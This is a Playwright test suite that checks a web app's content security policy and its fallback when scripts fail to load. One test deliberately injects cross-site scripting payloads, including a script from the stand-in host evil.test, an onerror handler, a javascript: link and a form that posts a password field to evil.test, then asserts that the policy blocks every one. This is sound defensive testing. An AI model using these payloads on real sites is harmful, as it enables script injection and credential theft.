import { expect, test, type Browser, type BrowserContextOptions, type Page } from '@playwright/test'
import { pathRows } from '../web/src/paths.ts'
import { violationsOf } from './accessible.ts'
import { addressesOf, prepareEveryPage, settle, watchPolicy, type EveryPage } from './every-page.ts'

let pages: EveryPage
test.describe.configure({ mode: 'default', timeout: 240_000 })
test.beforeAll(async ({ browser, baseURL }) => {
  pages = await prepareEveryPage(browser, baseURL!)
})

/** A page that tells of everything its policy refused. */
async function watchedPage(
  browser: Browser,
  storageState?: BrowserContextOptions['storageState'],
): Promise<{ page: Page; refused: string[] }> {
  const context = await browser.newContext(storageState ? { storageState } : {})
  const refused = await watchPolicy(context)
  return { page: await context.newPage(), refused }
}

test('no page needs what the content security policy refuses, opened by somebody who is not signed in', async ({
  browser,
}) => {
  const { page, refused } = await watchedPage(browser)
  // A page for people who are signed in shows the same sign-in as the next one.
  const shown = pathRows.filter(
    (row, index) =>
      row.access === 'none' ||
      row.access === 'public' ||
      pathRows.findIndex(other => other.access === row.access) === index,
  )
  for (const row of shown) {
    await page.goto(addressesOf(row, pages)[0]!)
    await settle(page)
    expect(refused, row.path).toEqual([])
  }
  await page.context().close()
})

test('what is injected into a page does not run and leads nowhere', async ({ browser, baseURL }) => {
  for (const [address, storageState] of [
    ['/login', undefined],
    ['/report', pages.team],
  ] as const) {
    const { page, refused } = await watchedPage(browser, storageState)
    const outside: string[] = []
    const note = (url: string) => {
      if (/^https?:/.test(url) && !url.startsWith(baseURL!)) outside.push(url)
    }
    page.on('response', answer => note(answer.url()))
    page.on('requestfailed', request => {
      if (request.failure()?.errorText !== 'csp') note(request.url())
    })
    await page.goto(address)
    await settle(page)
    await page.evaluate(() => {
      const inject = (html: string) => {
        const holder = document.createElement('div')
        holder.innerHTML = html
        document.body.append(holder)
        return holder
      }
      const script = document.createElement('script')
      script.textContent = 'window.injected = "inline"'
      document.body.append(script)
      const foreign = document.createElement('script')
      foreign.src = 'https://evil.test/x.js'
      document.body.append(foreign)
      inject('<img src="/nothing.png" onerror="window.injected = \'handler\'">')
      inject('<img src="https://evil.test/pixel.png">')
      inject('<base href="https://evil.test/">')
      inject('<object data="/ribbon.svg"></object>')
      inject('<style>body { display: none }</style>')
      inject('<a href="javascript:window.injected = \'address\'">x</a>').querySelector('a')!.click()
      inject('<form action="https://evil.test/" method="post"><input name="password"></form>')
        .querySelector('form')!
        .submit()
    })
    await expect
      .poll(() => [...new Set(refused.map(text => text.split(' ')[0]))].sort())
      .toEqual([
        'base-uri',
        'form-action',
        'img-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ])
    expect(await page.evaluate(() => (window as unknown as { injected?: string }).injected)).toBeUndefined()
    expect(outside).toEqual([])
    expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
    await page.context().close()
  }
})

test('a page whose scripts cannot be loaded says so, and is tried again', async ({ browser }) => {
  const context = await browser.newContext({ storageState: pages.team })
  const page = await context.newPage()
  for (const [script, address, heading] of [
    ['app', '/members', 'Users'],
    ['tracking-page', pages.examples['/recipients/:groupId/:token']![0]!, 'gift'],
  ] as const) {
    await page.route(`**/assets/${script}-*.js`, route => route.abort())
    await page.goto(address)
    await expect(page.getByRole('heading', { name: 'This page could not be opened' })).toBeVisible()
    expect(await violationsOf(page), address).toEqual([])
    await page.unrouteAll()
    await page.getByRole('button', { name: 'Try again' }).click()
    await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible()
  }
  await context.close()
})
